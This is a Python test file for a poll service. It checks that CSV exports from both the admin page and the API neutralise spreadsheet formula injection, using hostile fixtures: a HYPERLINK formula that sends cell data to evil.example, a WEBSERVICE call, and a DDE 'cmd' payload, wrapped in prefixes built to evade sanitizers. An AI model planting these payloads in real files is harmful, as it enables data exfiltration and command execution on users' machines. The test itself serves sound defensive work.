"""No cell of any table that can be downloaded is a formula, whichever way a spreadsheet splits the file."""

import csv
import io
import unicodedata
from collections.abc import AsyncIterator

import pytest

from pollsvc.services.exports.sections import What
from tests.support.editors import signed_in
from tests.support.furnished import Furnished, furnished
from tests.support.reader import Http, Reader

SIGNS = "=+-@"
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u200f",
    "\ufeff",
    "\xa0",
    "'",
    '"',
    ";",
    ",",
    "a;",
    "a,",
    "a\t",
    "a\n",
)
FORMULAS = (
    *('{}HYPERLINK("http://evil.example?"&A1,"Prize")', "{}1+1", "{}cmd|' /C calc'!A0", "{}SUM(A1:A9)"),
    '{}WEBSERVICE("http://evil.example")',
)
HOSTILE = [
    *(
        before + FORMULAS[number % len(FORMULAS)].format(sign)
        for number, before in enumerate(BEFORE)
        for sign in SIGNS
    ),
    *(FORMULAS[1].format(unicodedata.lookup(f"FULLWIDTH {name}")) for name in ("EQUALS SIGN", "PLUS SIGN")),
]
TABLES = [what for what in What if what is not What.ALL]
SILENT = " \t\r\n\"'\u200f\ufeff\xa0"
"""What spreadsheets pass over at the start of a cell."""


def cells_of(content: str, separator: str) -> list[str]:
    """A file's cells as an import that splits at this separator has them."""
    return [
        cell for line in csv.reader(io.StringIO(content, newline=""), delimiter=separator) for cell in line
    ]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may run a cell; a number with a sign is none."""
    text = unicodedata.normalize("NFKC", cell).lstrip(SILENT.replace("'", ""))
    if not text.startswith(tuple(SIGNS)):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


@pytest.fixture(scope="module")
async def place(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Furnished]:
    async with furnished(tmp_path_factory.mktemp("cells")) as place:
        yield place


@pytest.mark.parametrize("cell", ["=1", "+1+1", " =1", "\t@x", "＝1", "-x", "'=1"])
def test_the_check_knows_formulas(cell: str) -> None:
    assert is_formula(cell) is not cell.startswith("'")


@pytest.mark.parametrize("cell", ["", "a", "-1.5", "1-1", "a=b"])
def test_the_check_knows_what_is_none(cell: str) -> None:
    assert not is_formula(cell)


async def test_no_cell_is_a_formula(place: Furnished) -> None:
    """Of each table, by an editor's download and by a program's."""
    service, polls, written = place.service, [], 0
    for start in range(0, len(HOSTILE), 20):
        texts = HOSTILE[start : start + 20]
        address = "https://news.example/=1;=1+1,=1?;=2"
        polls.append(await service.add_poll(texts[0] + "?", texts, articles=[address], write_in=True))
    async with Http(service.base_url) as http:
        for poll in polls:
            for pick in range(1, 9):
                assert (await Reader(http).vote(poll, pick)).status == 201
            for text in HOSTILE[:40]:
                body = {"selection": [f"{text} of mine {poll}"], "idempotency_key": f"{written:022}"}
                written += (await http.post_vote(poll, body)).status == 201
    assert written > 20
    seen: set[str] = set()
    async with signed_in(service.base_url, service.database_url) as editor:
        for poll in polls:
            for what in TABLES:
                query = f"what={what}&format=csv"
                page = await editor.get(f"/admin/polls/{poll}/export/file?{query}")
                program = await editor.get(
                    f"/api/v1/admin/polls/{poll}/export?{query}", Authorization=f"Bearer {place.api_key}"
                )
                for answer in (page, program):
                    assert answer.status == 200, answer
                    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
                    assert answer.headers["content-disposition"].startswith("attachment; ")
                    assert answer.headers["x-content-type-options"] == "nosniff"
                    content = answer.body.decode("utf-8-sig")
                    seen.update(content.split())
                    for separator in ",;\t":
                        run = [cell for cell in cells_of(content, separator) if is_formula(cell)]
                        assert run == [], (what, separator)
    assert any("HYPERLINK" in word for word in seen)
    assert any("'=" in word for word in seen)
